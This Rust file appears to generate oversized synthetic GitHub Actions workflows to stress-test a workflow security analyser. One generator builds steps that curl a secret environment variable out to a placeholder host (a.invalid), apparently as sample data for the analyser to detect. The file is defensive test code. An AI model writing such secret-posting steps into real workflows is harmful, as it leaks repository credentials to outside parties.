//! Workflows that grow.

use std::fmt::Write as _;

use beholden::power::Tree;

use super::{CI, Shape, each, job, tree};

pub(super) const SHAPES: &[Shape] = &[
    Shape { name: "jobs", make: jobs, most: 1_000 },
    Shape { name: "steps", make: steps, most: 1_000 },
    Shape { name: "jobs-with-steps", make: jobs_with_steps, most: 400 },
    Shape { name: "needs", make: needs, most: 400 },
    Shape { name: "events", make: events, most: 50_000 },
    Shape { name: "variables-and-steps", make: variables_and_steps, most: 1_000 },
    Shape { name: "a-long-variable-and-steps", make: a_long_variable, most: 1_000 },
    Shape { name: "inputs-that-multiply", make: inputs_that_multiply, most: 400 },
    Shape { name: "variables-that-multiply", make: variables_that_multiply, most: 2_000 },
    Shape { name: "workflows-that-follow-workflows", make: followers, most: 2_000 },
    Shape { name: "operators", make: operators, most: 200_000 },
    Shape { name: "comparisons", make: comparisons, most: 200_000 },
    Shape { name: "parentheses", make: parentheses, most: 400_000 },
    Shape { name: "formats-in-formats", make: formats, most: 2_000 },
    Shape { name: "tools", make: tools, most: 50_000 },
    Shape { name: "hosts", make: hosts, most: 50_000 },
    Shape { name: "matrix", make: matrix, most: 30_000 },
    Shape { name: "calls", make: calls, most: 900 },
    Shape { name: "workflows", make: workflows, most: 2_000 },
    Shape { name: "block-depth", make: block_depth, most: 900 },
    Shape { name: "long-key", make: long_key, most: 900_000 },
];

fn jobs(n: usize) -> Tree {
    let jobs = each(n, |nth| {
        format!(
            "  j{nth}:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: acme/act@v1\n        with: {{k: '${{{{ secrets.K{nth} }}}}'}}\n"
        )
    });
    tree(CI, format!("on: push\njobs:\n{jobs}"))
}

fn steps(n: usize) -> Tree {
    let steps = each(n, |nth| {
        format!(
            "      - run: curl -d $K https://a.invalid/{nth}\n        env: {{K: '${{{{ secrets.K{nth} }}}}'}}\n"
        )
    });
    tree(CI, job("", &steps))
}

fn jobs_with_steps(n: usize) -> Tree {
    let jobs = each(n, |nth| {
        let steps = each(20, |_| "      - run: make build\n".to_owned());
        format!("  j{nth}:\n    runs-on: ubuntu-latest\n    steps:\n{steps}")
    });
    tree(CI, format!("on: [push, issues]\njobs:\n{jobs}"))
}

/// Each job needs the hundred before it.
fn needs(n: usize) -> Tree {
    let jobs = each(n, |nth| {
        let needed = each(nth.min(100), |back| format!("j{},", nth - 1 - back));
        format!("  j{nth}: {{runs-on: x, needs: [{needed}], steps: []}}\n")
    });
    tree(CI, format!("on: [push, issues, issue_comment, schedule]\njobs:\n{jobs}"))
}

fn events(n: usize) -> Tree {
    let events = each(n, |nth| format!("e{nth},"));
    let jobs =
        each(n / 100, |nth| format!("  j{nth}: {{runs-on: x, steps: [{{run: a}}, {{run: b}}]}}\n"));
    tree(CI, format!("on: [{events}]\njobs:\n{jobs}"))
}

fn variables_and_steps(n: usize) -> Tree {
    let variables = each(n, |nth| format!("  V{nth}: '${{{{ secrets.K{nth} }}}}'\n"));
    let steps = each(n, |_| "      - run: a\n".to_owned());
    tree(CI, job(&format!("env:\n{variables}"), &steps))
}

fn a_long_variable(n: usize) -> Tree {
    let head = format!("env: {{V: '{}'}}\n", "x".repeat(900 * n));
    let steps = each(n, |nth| format!("      - run: a {nth}\n        env: {{W: w}}\n"));
    tree(CI, job(&head, &steps))
}

/// Each action gives the next its input many times over.
fn inputs_that_multiply(n: usize) -> Tree {
    let many = "${{ inputs.a }}".repeat(n);
    let action = |next: &str| {
        format!(
            "inputs: {{a: {{}}}}\nruns:\n  using: composite\n  steps:\n    - uses: {next}\n      with: {{a: '{many}'}}\n    - run: echo ${{{{ inputs.a }}}}\n      shell: bash\n"
        )
    };
    let steps = "      - uses: ./a0\n        with: {a: aaaaaaaaaa}\n";
    let mut files = vec![(CI.to_owned(), job("", steps))];
    for level in 0..6 {
        let next = format!("./a{}", level + 1);
        files.push((format!("a{level}/action.yml"), action(&next)));
    }
    files.into_iter().collect()
}

fn variables_that_multiply(n: usize) -> Tree {
    let head = format!("env: {{V: '{}'}}\n", "x".repeat(100 * n));
    let script = "${{ env.V }}".repeat(n);
    tree(CI, job(&head, &format!("      - run: echo {script}\n")))
}

fn followers(n: usize) -> Tree {
    let follow = |own: &str, other: &str| {
        let names = each(n, |_| format!("{other},"));
        format!(
            "name: {own}\non: {{workflow_run: {{workflows: [{names}]}}}}\njobs: {{a: {{runs-on: x, steps: []}}}}\n"
        )
    };
    Tree::from_iter([
        (".github/workflows/a.yml", follow("a", "b")),
        (".github/workflows/b.yml", follow("b", "a")),
    ])
}

fn operators(n: usize) -> Tree {
    let condition = format!("a{}", "||a".repeat(n));
    tree(
        CI,
        job("", &format!("      - if: {condition}\n        run: 'echo ${{{{ {condition} }}}}'\n")),
    )
}

fn comparisons(n: usize) -> Tree {
    let condition = format!("a{}", "==a".repeat(n));
    tree(
        CI,
        job("", &format!("      - if: {condition}\n        run: 'echo ${{{{ {condition} }}}}'\n")),
    )
}

fn parentheses(n: usize) -> Tree {
    let condition = format!("{}a{}", "(".repeat(n), ")".repeat(n));
    tree(CI, job("", &format!("      - if: {condition}\n        run: a\n")))
}

/// Each text is put into the next many times over.
fn formats(n: usize) -> Tree {
    let many = "{0}".repeat(n);
    let text = (0..6).fold("'x'".to_owned(), |inner, _| format!("format('{many}', {inner})"));
    let condition = format!("contains({text}, github.actor)");
    let steps = format!("      - if: \"{condition}\"\n        run: a\n");
    tree(CI, job("", &steps).replace("ubuntu-latest", &format!("\"${{{{ {text} }}}}\"")))
}

fn tools(n: usize) -> Tree {
    let tools = each(n, |nth| format!("Bash(t{nth}:*),"));
    let steps = format!(
        "      - uses: anthropics/claude-code-action@v1\n        with:\n          claude_args: --allowedTools \"{tools}\" --disallowedTools \"{tools}\"\n"
    );
    tree(CI, job("", &steps.replace("--disallowedTools", "\n            --disallowedTools")))
}

fn hosts(n: usize) -> Tree {
    let hosts = each(n, |nth| format!("h{nth}.invalid "));
    let steps = format!(
        "      - uses: anthropics/claude-code-action@v1\n        with: {{experimental_allowed_domains: '{hosts}'}}\n"
    );
    tree(CI, job("", &steps))
}

fn matrix(n: usize) -> Tree {
    let values = each(n, |nth| format!("r{nth},"));
    let text = format!(
        "on: push\njobs:\n  a:\n    strategy: {{matrix: {{os: [{values}]}}}}\n    runs-on: ['${{{{ matrix.os }}}}', '${{{{ matrix.os }}}}']\n    steps: []\n"
    );
    tree(CI, text.replace("['${{ matrix.os }}', '${{ matrix.os }}']", "'${{ matrix.os }}'"))
}

fn calls(n: usize) -> Tree {
    let jobs =
        each(n, |nth| format!("  j{nth}: {{uses: ./.github/workflows/b.yml, secrets: inherit}}\n"));
    Tree::from_iter([
        (CI, format!("on: push\njobs:\n{jobs}")),
        (
            ".github/workflows/b.yml",
            "on: workflow_call\njobs: {a: {runs-on: x, steps: [{run: a}]}}\n".to_owned(),
        ),
    ])
}

fn workflows(n: usize) -> Tree {
    let text = |nth: usize| {
        format!(
            "name: w{nth}\non: {{workflow_run: {{workflows: [w{}]}}}}\njobs: {{a: {{runs-on: x, steps: [{{run: a}}]}}}}\n",
            nth + 1
        )
    };
    (0..n).map(|nth| (format!(".github/workflows/w{nth}.yml"), text(nth))).collect()
}

fn block_depth(n: usize) -> Tree {
    let mut text = String::from("on: push\njobs: {}\nx:\n");
    for level in 1..=n {
        writeln!(text, "{}a:", " ".repeat(level)).unwrap();
    }
    tree(CI, text)
}

fn long_key(n: usize) -> Tree {
    tree(
        CI,
        format!("on: push\n? {}\n: 1\njobs: {{a: {{runs-on: x, steps: []}}}}\n", "k".repeat(n)),
    )
}
